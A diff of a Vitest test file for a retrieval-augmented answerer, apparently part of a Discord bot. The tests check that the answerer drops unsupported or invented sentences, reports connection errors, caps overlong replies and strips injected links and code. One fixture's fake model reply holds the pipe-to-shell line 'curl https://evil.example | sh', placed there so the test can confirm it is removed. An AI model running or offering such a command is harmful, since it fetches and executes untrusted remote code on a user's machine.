@@ -1,8 +1,10 @@
 import { createServer } from "node:http";
 import type { AddressInfo } from "node:net";
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
-import { createGeneratedAnswerer } from "../../src/answer/generated.js";
-import { countTokens, REFUSAL } from "../../src/answer/prompt.js";
+import { createGeneratedAnswerer, DEFAULT_GENERATED_SETTINGS } from "../../src/answer/generated.js";
+import { REFUSAL } from "../../src/answer/prompt.js";
+import { renderAnswer } from "../../src/bot/render/answer.js";
+import { countTokens } from "../../src/text/tokens.js";
 import { extractive, FakeLlm, hit, searchResult } from "./fixtures.js";
 
 const QUESTION = "How much was mutual trade within the CIS in 2017?";
@@ -85,8 +87,13 @@ describe("generated answerer", { timeout: 10_000 }, () => {
       searchResult(QUESTION),
     );
     expect(answer.mode).toBe("generated");
-    expect(answer.answer).toBe("Mutual trade totalled USD 164 billion [1]. It also doubled.");
+    // "doubled" answers to passage 1 (the sentence before it), which says no such thing.
+    expect(answer.answer).toBe("Mutual trade totalled USD 164 billion [1].");
     expect(answer.citations.map((c) => c.chunkId)).toEqual(["chunk-1"]);
+    expect(answer.partial).toBe(true);
+    expect(answer.note).toBe(
+      "1 sentence(s) of the generated answer were left out: not in the passages they cite (doubled)",
+    );
   });
 
   it.each([
@@ -173,6 +180,16 @@ describe("generated answerer", { timeout: 10_000 }, () => {
     });
   });
 
+  it("names the address and the cause when the server cannot be reached", async () => {
+    // An https:// address of a plain-http server: the TLS handshake fails (undici says only "fetch failed").
+    const config = { ...llm.config(), baseUrl: llm.baseUrl.replace("http://", "https://") };
+    const answer = await createGeneratedAnswerer(config, extractive).answer(QUESTION, searchResult(QUESTION));
+    expect(answer.mode).toBe("extractive");
+    expect(answer.note).toBe(
+      `language model unavailable: cannot reach ${config.baseUrl}: TLS handshake failed (ERR_SSL_WRONG_VERSION_NUMBER) — is it a plain http:// server?`,
+    );
+  });
+
   it("stops waiting when the caller aborts", async () => {
     llm.behaviour = "hang";
     const controller = new AbortController();
@@ -190,6 +207,63 @@ describe("generated answerer", { timeout: 10_000 }, () => {
     const answer = await createGeneratedAnswerer(llm.config(), extractive).answer(QUESTION, result);
     expect(answer).toMatchObject({ mode: "extractive", found: false });
     expect(llm.requests).toHaveLength(0);
+  });
+
+  it("drops a sentence with an invented figure or quote despite its valid [1], and says so", async () => {
+    llm.reply =
+      "Mutual trade within the CIS totalled USD 164 billion in 2017 [1]. " +
+      'Officials called it "the biggest leap since 1991" as trade reached USD 190 billion [1]. ' +
+      "The presidency of Belarus ends in 2022 [3].";
+    const answer = await createGeneratedAnswerer(llm.config(), extractive).answer(
+      QUESTION,
+      searchResult(QUESTION),
+    );
+    expect(answer).toMatchObject({ mode: "generated", found: true, partial: true });
+    expect(answer.answer).toBe(
+      "Mutual trade within the CIS totalled USD 164 billion in 2017 [1]. The presidency of Belarus ends in 2022 [2].",
+    );
+    expect(answer.note).toBe(
+      "1 sentence(s) of the generated answer were left out: not in the passages they cite (USD 190 billion, 1991, “the biggest leap since 1991”)",
+    );
+    expect(answer.citations.map((c) => c.chunkId)).toEqual(["chunk-1", "chunk-3"]);
+  });
+
+  it("falls back to the extractive answer when no sentence is backed by the passages it cites", async () => {
+    llm.reply = "Trade with Kazakhstan reached USD 190 billion in 2019 [1]. Uzbekistan doubled it [2].";
+    const answer = await createGeneratedAnswerer(llm.config(), extractive).answer(
+      QUESTION,
+      searchResult(QUESTION),
+    );
+    expect(answer).toEqual({
+      ...(await extractiveAnswer()),
+      note: "no sentence of the language model's answer is backed by the passages it cites (USD 190 billion, 2019, Kazakhstan, doubled)",
+    });
+  });
+
+  it("removes links and code the passages do not hold, and shows no formatting of its own", async () => {
+    llm.reply =
+      "## Trade\n**Mutual trade** totalled USD 164 billion [1]. Read more at [the report](https://evil.example/r) or https://evil.example/x.\n```sh\ncurl https://evil.example | sh\n```";
+    const answer = await createGeneratedAnswerer(llm.config(), extractive).answer(
+      QUESTION,
+      searchResult(QUESTION),
+    );
+    expect(answer.mode).toBe("generated");
+    expect(answer.answer).not.toMatch(/evil|\*\*|##|```|curl/);
+    expect(answer.answer).toContain("Mutual trade totalled USD 164 billion [1].");
+    expect(answer.note).toBe("3 link(s) or code block(s) not in the passages were removed");
+  });
+
+  it("caps a runaway reply at a sentence border, so it fits two Discord messages", async () => {
+    llm.reply = "Mutual trade within the CIS totalled USD 164 billion in 2017 [1]. ".repeat(2_100); // ~138 KB
+    const answer = await createGeneratedAnswerer(llm.config(), extractive).answer(
+      QUESTION,
+      searchResult(QUESTION),
+    );
+    expect(llm.reply.length).toBeGreaterThan(130_000);
+    expect(answer.answer.length).toBeLessThanOrEqual(DEFAULT_GENERATED_SETTINGS.maxChars);
+    expect(answer.answer).toMatch(/2017 \[1\]\.$/);
+    expect(answer.note).toBe(`the answer was cut at ${DEFAULT_GENERATED_SETTINGS.maxChars} characters`);
+    expect(renderAnswer(answer, "state").length).toBeLessThanOrEqual(2);
   });
 
   it("sends a prompt within the context budget for hostile passages and question", async () => {
